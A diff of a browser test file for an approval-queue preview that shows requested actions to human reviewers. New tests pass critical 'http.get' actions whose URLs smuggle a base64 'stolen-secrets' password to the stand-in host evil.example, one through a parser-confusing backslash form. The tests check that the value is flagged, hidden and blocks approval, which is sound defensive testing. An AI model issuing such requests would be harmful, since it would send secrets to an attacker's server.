@@ -4,7 +4,7 @@ import { fitOf } from '../../../src/elements/approval-queue/previews/shapes.js';
 import { diffLines } from '../../../src/elements/approval-queue/previews/line-diff.js';
 import type { ApprovalRequest } from '../../../src/protocol/index.js';
 import { copyOf } from '../../support/clipboard.js';
-import { expectAccessible } from '../../support/browser.js';
+import { expectAccessible, until } from '../../support/browser.js';
 import { Desk, read } from './desk.js';
 
 describe('a preview', () => {
@@ -101,6 +101,23 @@ describe('a preview', () => {
     expect(rows(cyrillic).join()).to.contain('xn--pi-6kc.example');
     expect(read(cyrillic)).to.contain('not what they seem: 1');
   });
+
+  for (const [url, hidden] of [
+    ['https://u:c3RvbGVuLXNlY3JldHM@evil.example/', 1],
+    ['HTTPS:u:c3RvbGVuLXNlY3JldHM@evil.example\\a:b@c', 2],
+  ] as const) {
+    it(`says that an address holds a password, and hides it until it is asked for: ${url.slice(0, 6)}`, async () => {
+      const params = await shown({ action: 'http.get', risk: 'critical', params: { url } });
+      const card = await desk.card();
+      expect(rows(params).join()).to.contain('Password').and.to.contain('hidden, 19 characters');
+      expect(params.innerHTML).to.not.contain('c3RvbGVuLXNlY3JldHM');
+      await until(() => read(card.querySelector('.reading')!).includes('hidden'), 'the words');
+      expect(desk.isArmed(card, 'Approve')).to.equal(false);
+      for (let shows = 0; shows < hidden; shows += 1) await desk.click(desk.button(card, 'Show 1 hidden value')!);
+      await until(() => rows(params).join().includes('"c3RvbGVuLXNlY3JldHM"'), 'the password');
+      await desk.armed(card, 'Approve');
+    });
+  }
 
   it('shows a message with each who gets it, and all that it says', async () => {
     const params = await shown({
